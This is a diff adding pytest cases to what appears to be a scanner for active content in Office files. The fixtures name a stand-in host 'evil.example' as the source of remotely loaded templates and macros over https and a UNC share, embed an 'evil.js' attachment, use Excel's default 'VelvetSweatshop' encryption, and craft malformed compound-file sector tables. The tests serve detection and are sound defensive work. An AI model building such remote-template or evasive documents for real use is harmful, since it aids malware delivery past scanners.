@@ -46,6 +46,28 @@ def test_fields_are_found_in_whatever_else_is_there(members: tuple[tuple[str, by
     assert Active.DDE in acts(zipped(("[Content_Types].xml", TYPES), *members), "a.docx")
 
 
+BUTTONS = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="{}"><button getLabel="{}"/></customUI>'
+
+
+@pytest.mark.parametrize(
+    ("callbacks", "active"),
+    [
+        (("Load", "https://evil.example/t.dotm!Label"), {Active.TEMPLATE}),
+        (("\\\\evil.example\\t.dotm!Load", "Label"), {Active.SHARE}),
+        (("Module1.Load", "Label"), set()),
+    ],
+)
+def test_buttons_that_call_macros_of_another_file(callbacks: tuple[str, str], active: set[Active]) -> None:
+    assert acts(document(("customUI/customUI.xml", BUTTONS.format(*callbacks).encode("utf-16"))), "a.docx") == active
+
+
+def test_what_acts_in_a_document_of_2003_that_seems_to_be_a_package() -> None:
+    octets = b'<w:wordDocument xmlns:w="w" w:macrosPresent="yes"><p:part xmlns:p="xmlData"/>' + FIELD + b"</w:wordDocument>"
+    anatomy, _ = read(octets, "a.doc")
+    assert anatomy.attachments[0].macros
+    assert Active.DDE in anatomy.attachments[0].active_content
+
+
 def test_a_part_that_is_too_long_is_a_defect() -> None:
     assert Defect.CONTAINER_TOO_LARGE in read(document(("word/header1.xml", b"<w>" + b"x" * (17 << 20) + FIELD)), "a.docx")[1]
 
@@ -128,6 +150,47 @@ def test_a_header_that_tells_short_streams_otherwise_is_a_defect(at: int) -> Non
     octets = bytearray(compound({"WordDocument": bytes(4096), "\x01Ole10Native": ole_native("evil.js", SCRIPT)}))
     octets[at] ^= 0x10
     assert Defect.CONTAINER_DAMAGED in read(bytes(octets), "a.doc")[1]
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        struct.pack("<HH", 0x3C, 8_000) + bytes(8_000),
+        (struct.pack("<HH", 0x3C, 8_000) + bytes(8_000)) * 600,
+        struct.pack("<HHHH12xHH", 0x809, 16, 0x600, 0x10, 0x0A, 0),
+    ],
+)
+def test_a_record_of_encryption_anywhere_before_the_end_of_the_book(before: bytes) -> None:
+    """Such a password is tried by Excel itself."""
+    anatomy, defects = read(zipped(("a.xls", secret_office.book("VelvetSweatshop", before=before))), "a.zip")
+    assert anatomy.attachments[1].macros
+    assert not defects
+
+
+def test_another_entry_that_says_it_is_the_root_is_a_defect() -> None:
+    octets = bytearray(compound({"WordDocument": b"x", "a": b"x"}))
+    for name, kind in (("Root Entry", 1), ("a", 5)):
+        octets[octets.index(name.encode("utf-16-le") + b"\0\0") + 66] = kind
+    assert Defect.CONTAINER_DAMAGED in read(bytes(octets), "a.doc")[1]
+
+
+def test_a_table_of_sectors_that_is_listed_twice_stands_in_both_places() -> None:
+    """The third piece of the table tells of what begins at sector 256, whatever the second is."""
+    free, end = struct.pack("<L", FREE), struct.pack("<L", 0xFFFFFFFE)
+    content = b"alert(1);" * 500
+    first = end + (free * 127)
+    third = b"".join(struct.pack("<L", 257 + number) for number in range(8)) + end + free * 119
+    root = compound({"x": bytes(4_500)})
+    entries = [root[root.index(name.encode("utf-16-le") + b"\0\0") :][:128] for name in ("Root Entry", "x")]
+    stream = entries[1][:116] + struct.pack("<LQ", 256, len(content))
+    header = bytearray(root[:512])
+    struct.pack_into("<L", header, 44, 3)
+    struct.pack_into("<L", header, 48, 0)
+    struct.pack_into("<4L", header, 76, 1, 1, 2, FREE)
+    sectors = [entries[0] + stream + bytes(256), first, third] + [bytes(512)] * 253
+    octets = bytes(header) + b"".join(sectors) + content.ljust(9 * 512, b"\0")
+    found = Compound(octets)
+    assert [found.read(one, 1 << 20) for one in found.entries] == [content]
 
 
 def test_more_entries_than_are_read_are_a_defect(monkeypatch: pytest.MonkeyPatch) -> None:
